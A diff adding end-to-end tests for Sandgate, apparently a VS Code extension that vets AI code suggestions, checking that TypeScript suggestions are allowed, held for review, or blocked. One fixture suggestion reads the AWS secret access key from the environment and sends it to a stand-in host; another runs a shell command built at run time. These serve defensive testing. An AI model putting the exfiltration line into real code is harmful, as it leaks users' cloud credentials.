@@ -531,6 +531,191 @@ describe("Sandgate in VS Code (trusted workspace)", () => {
   });
 });
 
+// TypeScript: the same gestures in a .ts file, vetted by the JS static checks and a run in the Node sandbox.
+const TS = {
+  allow: "return a + b;",
+  // child_process with a command string built at run time: the JS rule pack holds it for review.
+  held: 'return execSync("git log --oneline " + branch).toString();',
+  // Reads a credential from the environment and sends it out: seen by the Node sandbox's run, which blocks it.
+  exfil: 'const token = process.env.AWS_SECRET_ACCESS_KEY;\nawait fetch(endpoint + "?k=" + token);',
+};
+const TS_FIXTURES = {
+  "ts_allow.ts": "// sandgate-e2e: ts-allow\nexport function add(a: number, b: number) {\n}\n",
+  "ts_held.ts":
+    '// sandgate-e2e: ts-held\nimport { execSync } from "node:child_process";\n\nexport function history(branch: string) {\n}\n',
+  "ts_exfil.ts": '// sandgate-e2e: ts-exfil\nexport const endpoint: string = "https://metrics-collector.example.net/v1";\n',
+};
+const tsScript = {
+  [`${TS.allow}<CURSOR>`]: "",
+  "sandgate-e2e: ts-allow": TS.allow,
+  "sandgate-e2e: ts-held": TS.held,
+  "sandgate-e2e: ts-exfil": TS.exfil,
+};
+
+/** The decision records of `file` in the workspace's audit log, once there are at least `count`. */
+async function decisionsFor(workspace, file, count = 1) {
+  return eventually(
+    () => {
+      const found = auditRecords(workspace).filter((r) => r.event === "decision" && r.file === file);
+      return found.length >= count && found;
+    },
+    { timeoutMs: 30000, message: `a decision record for ${file}` },
+  );
+}
+
+/** Opens `file`, puts the cursor at the end of `line` and starts a new line there: VS Code asks for a suggestion. */
+async function newLineAfter(wb, file, line) {
+  await wb.openFile(file);
+  await goToLine(wb, line);
+  await wb.press("End");
+  await wb.page.keyboard.type("\n");
+}
+
+describe("Sandgate in VS Code (TypeScript, trusted workspace)", () => {
+  let browser, model, server, wb, workspace;
+
+  before(async () => {
+    // The Node sandbox needs the project's Node (scripts/setup-sandbox.sh, which scripts/test.sh runs first).
+    const env = { ...process.env };
+    delete env.PYTHONPATH; // as the extension runs it
+    const code = "from sandgate.sandbox import node_runtime; print(node_runtime.discover().node)";
+    const node = spawnSync(PYTHON, ["-c", code], { encoding: "utf8", env });
+    assert.equal(node.status, 0, `the sandboxes' Node is not installed (run scripts/setup-sandbox.sh): ${node.stderr}`);
+    const tmp = mkdtemp("sandgate-e2e-model-ts-");
+    model = await startOpenAiServer(tsScript, tmp);
+    workspace = makeWorkspace("typescript", TS_FIXTURES);
+    server = await startCodeServer({ name: "typescript", settings: userSettings(model.baseUrl), trust: true });
+    browser = await launchBrowser();
+    wb = await Workbench.open(browser, server, workspace, "typescript");
+  });
+
+  after(async () => {
+    await wb?.close().catch(() => undefined);
+    await browser?.close().catch(() => undefined);
+    await server?.stop();
+    await model?.stop();
+  });
+
+  it("shows an allowed TypeScript suggestion as ghost text after a run in the Node sandbox, and Tab inserts exactly it", async () => {
+    await step(wb, "ts-allow", async () => {
+      await wb.openFile("ts_allow.ts");
+      // The server is up, and the Problems panel open before the first keystroke (opening it later takes the
+      // focus from the editor, which cancels the inline request).
+      await wb.waitForStatus((t) => /pending/.test(t));
+      await wb.problems();
+      await newLineAfter(wb, "ts_allow.ts", 2);
+      await wb.ghostText().first().waitFor({ state: "visible", timeout: 90000 });
+      const ghost = (await wb.ghostText().allInnerTexts()).join("").replace(/\u00a0/g, " ");
+      assert.equal(ghost.trim(), TS.allow, "the ghost text is the suggestion");
+      const item = wb.page.locator(".statusbar-item", { hasText: "AI suggestion allowed" }).first();
+      await item.waitFor({ state: "visible", timeout: 20000 });
+      const said = await item.innerText();
+      assert.match(said, /AI suggestion allowed, vetted in the sandbox \((docker|bwrap)\)/, said);
+      await wb.screenshot("ts-ghost-text-shown");
+      await wb.press("Tab");
+      await wb.save();
+      await wb.screenshot("ts-ghost-text-accepted");
+      const saved = fs.readFileSync(path.join(workspace, "ts_allow.ts"), "utf8");
+      assert.equal(saved, `// sandgate-e2e: ts-allow\nexport function add(a: number, b: number) {\n    ${TS.allow}\n}\n`);
+
+      // The server's record: a TypeScript vet that ran in the Node sandbox on the backend the status named.
+      const [record] = (await decisionsFor(workspace, "ts_allow.ts")).filter((r) => r.decision === "allow");
+      assert.ok(record, "an allow decision for ts_allow.ts");
+      assert.equal(record.language, "typescript");
+      assert.equal(record.sandbox.runtime, "node", JSON.stringify(record.sandbox));
+      assert.equal(record.sandbox.backend, said.match(/\((docker|bwrap)\)/)[1]);
+      assert.equal(record.sandbox.skipped, null);
+      assert.equal(record.sandbox.error, null);
+      assert.equal(record.content_sha256, sha256(TS.allow));
+      await eventually(() => auditRecords(workspace).some((r) => r.event === "acceptance" && r.content_sha256 === sha256(TS.allow)), {
+        message: "the acceptance is in the audit log",
+      });
+    });
+  });
+
+  it("holds a TypeScript suggestion that runs a built command string, and says why at the cursor", async () => {
+    await step(wb, "ts-held", async () => {
+      await newLineAfter(wb, "ts_held.ts", 4);
+      await wb.waitForProblems((t) => /AI suggestion held for review/.test(t), 90000);
+      assert.equal(await wb.ghostText().count(), 0, "a held suggestion is not shown as ghost text");
+      await wb.waitForStatus((t) => /1 pending/.test(t));
+      const lens = wb.page.locator(".codelens-decoration", { hasText: "AI suggestion held" }).first();
+      await lens.waitFor({ state: "visible", timeout: 30000 });
+      const lensText = await lens.innerText();
+      assert.match(lensText, /⚠ AI suggestion held: .*(shell command|js\.exec-built)/, lensText);
+      assert.match(lensText, /Review/);
+      assert.match(lensText, /Discard/);
+      await wb.screenshot("ts-held-codelens");
+      await wb.focusEditor();
+      await wb.press("Control+K");
+      await wb.press("Control+I");
+      const hovered = await hoverText(wb, "Why it was held for review");
+      assert.ok(hovered.replace(/\u00a0/g, " ").includes('execSync("git log --oneline " + branch)'), `the hover shows the code:\n${hovered}`);
+      assert.match(hovered, /js\.exec-built \(line 1 of the suggestion\)/);
+      await wb.screenshot("ts-held-hover");
+      await wb.press("Escape");
+
+      const [record] = await decisionsFor(workspace, "ts_held.ts");
+      assert.equal(record.decision, "review");
+      assert.equal(record.language, "typescript");
+      assert.ok(record.findings.some((f) => f.rule === "js.exec-built" && f.language === "typescript"), JSON.stringify(record.findings));
+      // Held by the static checks, and still run: the Node sandbox found nothing worse.
+      assert.equal(record.sandbox.runtime, "node", JSON.stringify(record.sandbox));
+      assert.match(record.sandbox.backend, /^(docker|bwrap)$/);
+
+      // Saved as it is: the held text never reached the file.
+      await wb.save();
+      const saved = fs.readFileSync(path.join(workspace, "ts_held.ts"), "utf8");
+      assert.ok(!saved.includes("git log"), `nothing was inserted:\n${saved}`);
+    });
+  });
+
+  it("blocks a TypeScript suggestion that sends an environment secret out, as its Node sandbox run showed", async () => {
+    await step(wb, "ts-blocked", async () => {
+      await wb.openFile("ts_exfil.ts");
+      await wb.typeAtEnd("\n");
+      let ghostSeen = false;
+      await eventually(
+        async () => {
+          if ((await wb.ghostText().count()) > 0) ghostSeen = true;
+          return /AI suggestion blocked/.test(await wb.problems());
+        },
+        { timeoutMs: 90000, message: "blocked diagnostic" },
+      );
+      assert.equal(ghostSeen, false, "no ghost text for a blocked suggestion");
+      const lens = wb.page.locator(".codelens-decoration", { hasText: "AI suggestion blocked" }).first();
+      await lens.waitFor({ state: "visible", timeout: 30000 });
+      const lensText = await lens.innerText();
+      assert.match(lensText, /⛔ AI suggestion blocked: .*metrics-collector\.example\.net/, lensText);
+      assert.match(lensText, /Show details/);
+      await wb.screenshot("ts-blocked-codelens");
+      await wb.focusEditor();
+      await wb.press("Control+K");
+      await wb.press("Control+I");
+      const hovered = await hoverText(wb, "Why it was blocked");
+      assert.match(hovered, /network\.denied/);
+      assert.match(hovered, /metrics-collector\.example\.net/);
+      assert.match(hovered, /never shown/);
+      assert.ok(!hovered.includes("process.env.AWS_SECRET_ACCESS_KEY"), "a blocked suggestion's code is not in the hover");
+      await wb.screenshot("ts-blocked-hover");
+      await wb.press("Escape");
+
+      const [record] = await decisionsFor(workspace, "ts_exfil.ts");
+      assert.equal(record.decision, "block");
+      assert.equal(record.language, "typescript");
+      // No static rule stopped it: the Node sandbox's record of the run did.
+      const deciding = record.findings.filter((f) => f.decision === "block");
+      assert.ok(deciding.length > 0 && deciding.every((f) => f.source === "sandbox" && f.rule === "network.denied"), JSON.stringify(record.findings));
+      assert.equal(record.sandbox.runtime, "node", JSON.stringify(record.sandbox));
+      assert.match(record.sandbox.backend, /^(docker|bwrap)$/);
+      await wb.press("Tab");
+      await wb.save();
+      const saved = fs.readFileSync(path.join(workspace, "ts_exfil.ts"), "utf8");
+      assert.ok(!saved.includes("AWS_SECRET_ACCESS_KEY"), "the blocked text never reached the file");
+    });
+  });
+});
+
 describe("Sandgate in VS Code (restricted workspace)", () => {
   let browser, model, server, wb, workspace;
 
